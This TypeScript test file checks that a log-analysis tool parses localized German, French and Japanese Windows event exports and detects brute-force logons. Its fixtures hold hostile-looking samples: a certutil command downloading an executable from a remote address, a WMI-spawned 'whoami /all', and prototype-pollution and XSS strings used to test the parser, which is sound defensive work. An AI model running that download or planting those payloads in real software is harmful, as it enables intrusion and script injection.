import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { renderedFields } from '../../src/ingest/formats/windows-csv.ts';
import { auditOutcome } from '../../src/ingest/formats/windows-json/record.ts';
import { analyzeStore } from '../../src/pipeline/analyze.ts';
import { ingest } from '../../src/pipeline/ingest.ts';
import { openStore } from '../../src/store/index.ts';
import { eventsOf, read, selected } from '../detect/mapping/helpers.ts';
import { tempDirs } from '../helpers/temp.ts';

/** Windows in another display language: localized export headers, audit keywords and rendered Security messages. */

const dirs = tempDirs('windows-localized');
const quoted = (text: string) => `"${text.replace(/"/g, '""')}"`;
const GERMAN_SECURITY = 'Schlüsselwörter,Datum und Uhrzeit,Quelle,Ereignis-ID,Aufgabenkategorie';

/** A German 4625 as Windows renders it (`Unterstatus::` is Windows' own). */
const germanFailedLogon = (user: string, ip: string) =>
  `Fehler beim Anmelden eines Kontos.\r\n\r\nAntragsteller:\r\n\tSicherheits-ID:\t\tNULL SID\r\n\tKontoname:\t\t-\r\n\tKontodomäne:\t\t-\r\n\tAnmelde-ID:\t\t0x0\r\n\r\nAnmeldetyp:\t\t\t3\r\n\r\n` +
  `Konto, für das die Anmeldung fehlgeschlagen ist:\r\n\tSicherheits-ID:\t\tNULL SID\r\n\tKontoname:\t\t${user}\r\n\tKontodomäne:\t\tFIRMA\r\n\r\n` +
  `Fehlerinformationen:\r\n\tFehlerursache:\t\tUnbekannter Benutzername oder ungültiges Kennwort.\r\n\tStatus:\t\t\t0xC000006D\r\n\tUnterstatus::\t\t0xC000006A\r\n\r\n` +
  `Prozessinformationen:\r\n\tAufrufprozess-ID:\t0x0\r\n\tAufrufprozessname:\t-\r\n\r\nNetzwerkinformationen:\r\n\tArbeitsstationsname:\tKALI\r\n\tQuellnetzwerkadresse:\t${ip}\r\n\tQuellport:\t\t49152\r\n\r\n` +
  `Detaillierte Authentifizierungsinformationen:\r\n\tAnmeldeprozess:\t\tNtLmSsp \r\n\tAuthentifizierungspaket:\tNTLM\r\n\tÜbertragene Dienste:\t-\r\n\tPaketname (nur NTLM):\t-\r\n\tSchlüssellänge:\t\t0\r\n\r\n` +
  'Dieses Ereignis wird beim Fehlschlagen einer Anmeldeanforderung generiert.';

const germanProcess = (commandLine: string) =>
  'Ein neuer Prozess wurde erstellt.\r\n\r\nProzessinformationen:\r\n\tID des neuen Prozesses:\t\t0x1a2b\r\n\tNeuer Prozessname:\tC:\\Windows\\System32\\cmd.exe\r\n\tTokenerhöhungstyp:\t%%1936\r\n' +
  `\tErstellerprozess-ID:\t0x1000\r\n\tErstellerprozessname:\tC:\\Windows\\System32\\wbem\\WmiPrvSE.exe\r\n\tProzessbefehlszeile:\t${commandLine}\r\n\r\n` +
  'Der Tokenerhöhungstyp gibt den Typ des Tokens an, das dem neuen Prozess gemäß der Benutzerkontensteuerungs-Richtlinie zugewiesen wurde.';

/** A French 4625: French puts a space before each colon. */
const frenchFailedLogon = (user: string, ip: string) =>
  `Échec d’ouverture de session d’un compte.\r\n\r\nSujet :\r\n\tID de sécurité :\t\tS-1-0-0\r\n\tNom du compte :\t\t-\r\n\r\nType d’ouverture de session :\t\t\t3\r\n\r\n` +
  `Compte pour lequel l’ouverture de session a échoué :\r\n\tID de sécurité :\t\tS-1-0-0\r\n\tNom du compte :\t\t${user}\r\n\tDomaine du compte :\t\tSOCIETE\r\n\r\n` +
  `Informations sur le réseau :\r\n\tNom de la station de travail :\tKALI\r\n\tAdresse du réseau source :\t${ip}\r\n\tPort source :\t\t49152`;

const SYSMON_PROCESS =
  'Process Create:\r\nRuleName: -\r\nUtcTime: 2026-11-23 14:05:00.123\r\nProcessId: 4242\r\nImage: C:\\Windows\\System32\\certutil.exe\r\n' +
  'CommandLine: certutil.exe -urlcache -split -f http://198.51.100.7/a.exe a.exe\r\nUser: FIRMA\\alice\r\nParentImage: C:\\Windows\\System32\\cmd.exe';

void describe('Windows in other display languages', () => {
  void it("reads a German Security export's failed logon: user, client, logon type, outcome, German day-first time", async () => {
    const [e] = await eventsOf('Sicherheit.csv', `${GERMAN_SECURITY}\r\nÜberwachung gescheitert,23.11.2026 20:01:02,Microsoft-Windows-Security-Auditing,4625,Anmelden,${quoted(germanFailedLogon('administrator', '203.0.113.50'))}\r\n`);
    assert.deepEqual(
      [e?.vigil.format, e?.event.dataset, e?.event.action, e?.event.outcome, e?.user?.name, e?.user?.domain, e?.source?.ip, e?.source?.port, e?.winlog?.logon?.type, e?.['@timestamp']],
      ['windows-csv', 'windows.security', 'logon-failed', 'failure', 'administrator', 'FIRMA', '203.0.113.50', 49152, '3', '2026-11-23T20:01:02.000Z'],
    );
    assert.deepEqual([e?.winlog?.event_data?.SubStatus, e?.winlog?.event_data?.WorkstationName, e?.labels?.['winlog.keywords']], ['0xc000006a', 'KALI', 'Überwachung gescheitert']);
  });

  void it("reads a German 4688's new process, parent and command line, for Sigma's process_creation", async () => {
    const header = 'Schlüsselwörter,Datum und Uhrzeit,Quelle,Ereignis-ID,Aufgabenkategorie';
    const [e] = await eventsOf('Sicherheit.csv', `${header}\r\nÜberwachung erfolgreich,23.11.2026 20:05:00,Microsoft-Windows-Security-Auditing,4688,Prozesserstellung,${quoted(germanProcess('cmd.exe /c whoami /all'))}\r\n`);
    assert.deepEqual([e?.process?.executable, e?.process?.command_line, e?.process?.parent?.executable], ['C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c whoami /all', 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe']);
    assert.equal(e !== undefined && selected(e, { product: 'windows', category: 'process_creation' }), true);
    assert.equal(e !== undefined && read(e, { product: 'windows', category: 'process_creation' }, 'ParentImage'), 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe');
  });

  void it('knows an export in a language it has no column names for by its rows: French, and year-first Japanese times', async () => {
    const french = 'Mots clés,Date et heure,Source,ID de l’événement,Catégorie de la tâche';
    const [f] = await eventsOf('Securite.csv', `${french}\r\nÉchec de l’audit,23/11/2026 20:01:02,Microsoft-Windows-Security-Auditing,4625,Ouvrir la session,${quoted(frenchFailedLogon('invité', '203.0.113.51'))}\r\n`);
    assert.deepEqual([f?.vigil.format, f?.event.outcome, f?.user?.name, f?.user?.domain, f?.source?.ip, f?.winlog?.logon?.type, f?.['@timestamp']], ['windows-csv', 'failure', 'invité', 'SOCIETE', '203.0.113.51', '3', '2026-11-23T20:01:02.000Z']);
    const japanese = 'レベル,日付と時刻,ソース,イベント ID,タスクのカテゴリ';
    const [j] = await eventsOf('Sysmon.csv', `${japanese}\r\n情報,2026/11/23 14:05:00,Microsoft-Windows-Sysmon,1,Process Create (rule: ProcessCreate),${quoted(SYSMON_PROCESS)}\r\n`);
    assert.deepEqual([j?.vigil.format, j?.event.dataset, j?.process?.executable, j?.['@timestamp'], j?.labels?.['winlog.level']], ['windows-csv', 'windows.sysmon', 'C:\\Windows\\System32\\certutil.exe', '2026-11-23T14:05:00.000Z', '情報']);
  });

  void it('does not take other five-column tables for exports: a sixth unnamed cell, a time and an event id are needed', async () => {
    const [plain] = await eventsOf('hosts.csv', 'Nom,Date,Hôte,Nombre,Statut\r\nweb,23/11/2026 20:01:02,srv1,4625,ok\r\n');
    assert.equal(plain?.vigil.format, 'csv');
    const [noTime] = await eventsOf('t.csv', 'a,b,c,d,e\r\nx,hier,y,4625,z,"message"\r\n');
    assert.equal(noTime?.vigil.format, 'csv');
  });

  void it('raises brute force from a German export, as from an English one', async () => {
    const dir = dirs.fresh();
    const rows = Array.from({ length: 12 }, (_, i) => `Überwachung gescheitert,23.11.2026 08:0${String(Math.floor(i / 6))}:${String(10 + i)},Microsoft-Windows-Security-Auditing,4625,Anmelden,${quoted(germanFailedLogon('administrator', '203.0.113.60'))}`);
    writeFileSync(join(dir, 'Sicherheit.csv'), `${GERMAN_SECURITY}\r\n${rows.join('\r\n')}\r\n`);
    const store = openStore(join(dir, 'v.db'));
    try {
      await ingest(store, [join(dir, 'Sicherheit.csv')], { tz: 'UTC', actor: 'test' });
      const incidents = analyzeStore(store, { actor: 'test' }).incidents;
      assert.match(incidents.map((i) => i.title).join(' | '), /failure flood|brute force|failed/i);
    } finally {
      store.close();
    }
  });

  void it("reads Splunk's WinEventLog text from a German server", async () => {
    const text = `11/23/2026 08:01:02 PM\nLogName=Security\nEventCode=4625\nEventType=0\nComputerName=dc01.firma.local\nSourceName=Microsoft Windows security auditing.\nType=Informationen\nRecordNumber=1\nKeywords=Überwachung gescheitert\nTaskCategory=Anmelden\nOpCode=Info\nMessage=${germanFailedLogon('bob', '203.0.113.52')}\n`;
    const [e] = await eventsOf('wineventlog.log', text);
    assert.deepEqual([e?.vigil.format, e?.event.outcome, e?.user?.name, e?.source?.ip, e?.host?.name], ['windows-text', 'failure', 'bob', '203.0.113.52', 'dc01.firma.local']);
  });

  void it('reads audit keywords in German, French, Spanish and Italian, with either apostrophe', () => {
    const words: [string, string | undefined][] = [
      ['Überwachung erfolgreich', 'success'],
      ['Überwachung gescheitert', 'failure'],
      ['Succès de l’audit', 'success'],
      ["Échec de l'audit", 'failure'],
      ['Auditoría correcta', 'success'],
      ['Error de auditoría', 'failure'],
      ['Controllo riuscito', 'success'],
      ['Controllo non riuscito', 'failure'],
      ['Informationen', undefined],
    ];
    assert.deepEqual(words.map(([word]) => [word, auditOutcome(word)]), words);
    assert.equal(auditOutcome(['Klassisch', 'Überwachung gescheitert']), 'failure', 'Winlogbeat keywords as a list');
  });

  void it('keeps hostile localized labels as own fields, and English messages as before', () => {
    const hostile = renderedFields('x\r\nKonto, für das die Anmeldung fehlgeschlagen ist:\r\n\t__proto__:\tx\r\n\tKontoname:\t<img src=x onerror=alert(1)>\r\nconstructor :\r\n\tNom du compte :\tz', false);
    assert.deepEqual([Object.getPrototypeOf(hostile), hostile.TargetUserName], [Object.prototype, '<img src=x onerror=alert(1)>']);
    assert.deepEqual(renderedFields('x\nNetwork Information:\n\tSource Network Address:\t::1\n\tSource Port:\t\t0', false), { IpAddress: '::1', IpPort: '0' }, "an IPv6 address's colons are the value's");
  });
});
